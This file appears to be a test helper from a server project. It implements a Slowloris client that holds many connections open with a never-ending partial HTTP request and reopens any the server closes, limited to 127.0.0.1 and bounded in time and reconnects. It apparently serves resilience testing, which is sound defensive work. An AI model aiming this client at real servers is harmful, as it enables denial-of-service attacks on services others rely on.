"""Attack clients shared by the tests and bench/attacks: against 127.0.0.1 only, bounded."""

from __future__ import annotations

import selectors
import socket
import threading
import time

PARTIAL_REQUEST = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
"""A request line and headers that never end."""
RAMP_S = 20.0


class Slowloris:
    """Keeps ``count`` connections open, each having sent part of a request line and headers;
    reopens every one the server closes, as slowloris does, for at most ``seconds``.

    Connects are non-blocking, so a server that stops accepting (out of file descriptors)
    slows the attack down instead of stopping it.
    """

    def __init__(self, port: int, count: int, seconds: float) -> None:
        self._port, self._count, self._seconds = port, count, seconds
        self.attempted = 0
        self.opened = 0
        self.closed_by_server = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Slowloris:
        """Returns once every connection is open, or after ``RAMP_S`` if the server stopped
        accepting (then ``opened`` says how many are)."""
        self._thread.start()
        deadline = time.monotonic() + RAMP_S
        while self.opened < self._count and time.monotonic() < deadline:
            time.sleep(0.05)
        return self

    def __exit__(self, *_exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=30)

    def _connect(self, selector: selectors.DefaultSelector) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", self._port))
        selector.register(sock, selectors.EVENT_WRITE, "connecting")
        self.attempted += 1

    def _drop(self, selector: selectors.DefaultSelector, sock: socket.socket) -> None:
        selector.unregister(sock)
        sock.close()
        if self.attempted < self._count * 10:
            self._connect(selector)

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        deadline = time.monotonic() + self._seconds
        try:
            for _ in range(self._count):
                self._connect(selector)
            while not self._stop.is_set() and time.monotonic() < deadline:
                for key, _events in selector.select(timeout=0.1):
                    sock = key.fileobj
                    assert isinstance(sock, socket.socket)
                    if key.data == "connecting":
                        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                            self._drop(selector, sock)
                            continue
                        try:
                            sock.send(PARTIAL_REQUEST)
                        except OSError:
                            self._drop(selector, sock)
                            continue
                        selector.modify(sock, selectors.EVENT_READ, "open")
                        self.opened += 1
                        continue
                    try:
                        data = sock.recv(4096)
                    except OSError:
                        data = b""
                    if not data:
                        self.closed_by_server += 1
                        self._drop(selector, sock)
        finally:
            for key in list(selector.get_map().values()):
                key.fileobj.close()  # type: ignore[union-attr]
            selector.close()
